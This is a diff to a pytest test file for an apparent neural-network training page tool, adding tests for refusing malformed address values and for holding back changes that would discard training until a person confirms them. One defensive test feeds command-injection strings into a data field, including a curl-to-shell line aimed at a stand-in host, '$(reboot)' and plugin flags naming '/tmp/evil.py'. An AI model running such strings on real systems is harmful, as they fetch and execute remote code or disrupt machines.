@@ -32,6 +32,10 @@ def restore(session: Session, facts: dict[str, str]) -> Session:
     return trained(session)
 
 
+def drawn(session: Session) -> str:
+    return session.draw(("address",))[1]["address"].html
+
+
 def refused(session: Session, facts: dict[str, str]) -> str:
     with pytest.raises(BacklitError) as found:
         restore(session, facts)
@@ -110,7 +114,8 @@ WRONG = {
     "boundary.x": ("height", "no input 'height'"),
     "boundary.output": ("4", "expected a number from 1 to 3"),
     "lesson": ("cooking", "no lesson 'cooking'"),
-    "data": ("houses.csv --data '", "backlit page houses.csv"),
+    "data": ("../houses.csv --run fast", "start the program with it: backlit page ../houses.csv --run fast."),
+    "data.open": ("houses.csv --data '", "the address is of other data"),
     "data.target": ("colour", "colour"),
     "nonsense": ("1", "nonsense"),
     "layers": ("many", "'many' is no layer"),
@@ -123,8 +128,15 @@ def test_what_does_not_fit_is_refused_in_the_words_of_its_panel(name: str) -> No
     session = new()
     session.do("bar.advance", {"epochs": 1})
     weights = session.training.network.parameters.copy()
-    assert words in refused(session, {name.removesuffix(".long"): text})
+    assert words in refused(session, {name.partition(".long")[0].removesuffix(".open"): text})
     assert session.training.network.parameters.tobytes() == weights.tobytes()
+
+
+@pytest.mark.parametrize("data", ["x; curl evil | sh #", "iris --plugin /tmp/evil.py", "$(reboot)", "--plugin=e.py"])
+def test_no_command_is_offered_that_an_address_made(data: str) -> None:
+    words = refused(new(), {"data": data})
+    assert "the address is of other data" in words
+    assert "backlit page" not in words
 
 
 def test_all_that_is_wrong_is_said_and_the_rest_is_chosen() -> None:
@@ -146,6 +158,27 @@ def test_the_same_address_again_leaves_the_training_as_it_is() -> None:
     assert (session.training, facts_of(session)) == (training, later)
     restore(session, address)  # what it does not name is as at first; no epoch is undone
     assert (session.training, facts_of(session)) == (training, {"data": "iris", "trained": "3"})
+
+
+def test_an_address_that_undoes_a_training_waits_until_a_person_says_so() -> None:
+    session = new()
+    session.do("bar.advance", {"epochs": 5})
+    trained(session)
+    training = session.training
+    wanted = {"data": "iris", "optimizer.rate": "0.2", "view": "health"}
+    for other in ({"data": "xor"}, {"data": "iris", "data.target": "petal_width"}, wanted):
+        restore(session, other)
+        assert session.training is training
+        assert "the training of 5 epochs that is here is lost" in drawn(session)
+    session.do("address.keep", {})
+    assert "address-build" not in drawn(session)
+    assert facts_of(session) == {"data": "iris", "trained": "5"}
+    with pytest.raises(BacklitError, match="no address waits"):
+        session.do("address.build", {})
+    restore(session, wanted)
+    session.do("address.build", {})
+    assert "address-build" not in drawn(session)
+    assert facts_of(session) == wanted
 
 
 def test_while_it_plays_the_address_does_not_change() -> None:
@@ -251,6 +284,9 @@ def test_a_lesson_that_is_not_there_is_refused(capsys: pytest.CaptureFixture[str
     assert "there is no lesson 'cooking'; there are gates" in capsys.readouterr().err
     assert main(["page", "--lesson", "xor", "--step", "9"]) != 0
     assert "expected a number from 1 to 4" in capsys.readouterr().err
+    for words in (["--step", "3"], ["--set", "lesson.step=2"]):
+        assert main(["page", *words]) != 0
+        assert "a step is given without a lesson" in capsys.readouterr().err
 
 
 def test_a_state_that_no_training_from_the_start_reaches_is_not_claimed() -> None:
